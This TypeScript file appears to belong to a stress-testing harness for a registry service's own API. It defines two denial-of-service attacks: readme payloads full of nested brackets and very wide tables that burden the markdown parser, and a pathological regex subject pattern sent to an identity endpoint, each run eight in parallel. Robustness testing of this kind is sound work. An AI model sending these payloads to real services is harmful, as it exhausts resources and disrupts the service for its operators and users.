// Sends readmes with many elements or many brackets, and patterns that take long to compile.
import type { Attack } from './attack.ts'

/** The parser looks for the end of every bracket. */
const openBrackets = '![[]'.repeat(16_000)

/** A table whose short rows are filled up with empty cells. */
const wideTable = `${'|a'.repeat(2000)}|\n${'|-'.repeat(2000)}|\n${'|\n'.repeat(25_000)}`

export const costlyReadmes: Attack = {
  parallel: 8,
  async round({ tenant, call }) {
    const path = `/registry/v2beta1/repos/${tenant.repo}/readme`
    for (const content of [wideTable, openBrackets]) {
      const body = JSON.stringify({ content })
      await call({ method: 'PATCH', path, headers: { authorization: tenant.authorization }, body })
    }
  },
}

export const costlyPatterns: Attack = {
  parallel: 8,
  async round({ tenant, call }) {
    const claimMatch = { issuer: 'https://issuer.example.com', subjectPattern: `${'(a?|\\pL)'.repeat(40)}a` }
    const path = `/iam/v2beta1/identities/${tenant.organization}`
    const body = JSON.stringify({ name: 'x', claimMatch })
    await call({ method: 'POST', path, headers: { authorization: tenant.authorization }, body })
  },
}
